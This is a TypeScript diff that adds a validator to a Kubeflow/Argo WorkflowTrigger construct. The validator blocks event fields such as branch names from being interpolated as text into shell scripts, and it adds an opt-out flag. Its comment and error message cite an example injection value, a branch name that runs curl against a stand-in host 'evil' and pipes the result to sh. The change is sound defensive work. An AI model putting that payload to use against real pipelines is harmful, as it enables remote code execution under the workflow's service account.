@@ -1,5 +1,6 @@
 import { Construct } from 'constructs';
 import { ProfileWorkflowTemplate } from '../kubeflow/profile-workflow-template';
+import { ShellSink } from '../kubeflow/shell-sinks';
 import { Platform } from '../platform';
 import { checkBoolean, checkDnsLabel, checkKnownKeys, checkList, checkNamespace, requireString, samePlatform, ValidationError, Where } from '../validation';
 import { ArgoEventsRbac, workflowVerbs } from './argo-events-rbac';
@@ -25,7 +26,9 @@ export interface WorkflowTemplateReference {
   readonly external?: boolean;
 }
 
-const PROPS: readonly string[] = ['platform', 'submitFrom', 'eventSource', 'eventName', 'template', 'namespace', 'rbac', 'parameters', 'branches', 'name'];
+const PROPS: readonly string[] = [
+  'platform', 'submitFrom', 'eventSource', 'eventName', 'template', 'namespace', 'rbac', 'parameters', 'branches', 'name', 'allowShellInterpolation',
+];
 
 /** Props for {@link WorkflowTrigger}. */
 export interface WorkflowTriggerProps {
@@ -90,6 +93,15 @@ export interface WorkflowTriggerProps {
    * @default - "<source>-<template>" (with the namespace when it differs per profile)
    */
   readonly name?: string;
+
+  /**
+   * Let event data reach a template's `script.source` or the script of a `sh -c`. Risky: Argo
+   * substitutes `{{…}}` as text, so whoever can send an event (a git push with a crafted branch
+   * name such as `x";curl${IFS}evil|sh;"`) runs code in the profile namespace. Pass values as
+   * environment variables or positional arguments instead (see the error message).
+   * @default false
+   */
+  readonly allowShellInterpolation?: boolean;
 }
 
 /**
@@ -184,6 +196,13 @@ export class WorkflowTrigger extends Construct {
         throw new ValidationError('WorkflowTrigger', `parameters.${p}`, params[p], 'must be an EventField', 'use EventField.revision(), EventField.path("body.x"), …');
       }
     }
+    const allowShell = checkBoolean(where('allowShellInterpolation'), props.allowShellInterpolation ?? false);
+    const sink = allowShell ? undefined : template.shellSinks?.(paramNames)[0];
+    if (sink) {
+      throw new ValidationError('WorkflowTrigger', `parameters.${sink.parameter}`, params[sink.parameter].description,
+        `would become code: WorkflowTemplate "${template.name}" puts it into the ${sink.location} of template "${sink.template}", and Argo substitutes {{…}} as text, so a crafted event (e.g. a branch named x";curl\${IFS}evil|sh;") runs commands as the workflow's service account`,
+        'pass it as data: an environment variable (env: [{ name: "BRANCH", value: "{{inputs.parameters.branch}}" }], then "$BRANCH" in the script) or a positional argument after the script (args: [\'git clone --branch "$1" …\', "sh", "{{inputs.parameters.branch}}"]); or set allowShellInterpolation: true if the event source is trusted');
+    }
     const branches = props.branches === undefined ? undefined : checkList(where('branches'), props.branches, checkBranch);
     if (branches && source.type === 'webhook') {
       throw new ValidationError('WorkflowTrigger', 'branches', branches, 'needs a github or gitlab source (a generic webhook has no push ref)', 'remove branches');
@@ -253,11 +272,13 @@ interface ResolvedTemplate {
   readonly name: string;
   readonly namespace: string;
   readonly parameterNames?: readonly string[];
+  /** Where parameters become code; undefined for templates managed elsewhere (not visible here). */
+  readonly shellSinks?: (parameters: readonly string[]) => ShellSink[];
 }
 
 function resolveTemplate(scope: Construct, t: ProfileWorkflowTemplate | WorkflowTemplateReference): ResolvedTemplate {
   const where = { owner: 'WorkflowTrigger', prop: 'template' };
-  if (t instanceof ProfileWorkflowTemplate) return t;
+  if (t instanceof ProfileWorkflowTemplate) return { name: t.name, namespace: t.namespace, parameterNames: t.parameterNames, shellSinks: (p) => t.shellSinks(p) };
   if (!t || typeof t !== 'object') {
     throw new ValidationError('WorkflowTrigger', 'template', t, 'must be a ProfileWorkflowTemplate or { name, namespace }', 'pass the template construct');
   }
@@ -273,7 +294,7 @@ function resolveTemplate(scope: Construct, t: ProfileWorkflowTemplate | Workflow
       `names no WorkflowTemplate in namespace "${t.namespace}" of this app (${same.length ? `it has ${same.join(', ')}` : 'it has none'})`,
       'pass the ProfileWorkflowTemplate itself, fix the name, or set external: true for a template managed elsewhere');
   }
-  return { name: t.name, namespace: t.namespace, parameterNames: t.parameterNames ?? found?.parameterNames };
+  return { name: t.name, namespace: t.namespace, parameterNames: t.parameterNames ?? found?.parameterNames, shellSinks: found && ((p) => found.shellSinks(p)) };
 }
 
 function resolveField(field: EventField, source: WebhookEventSource, param: string) {
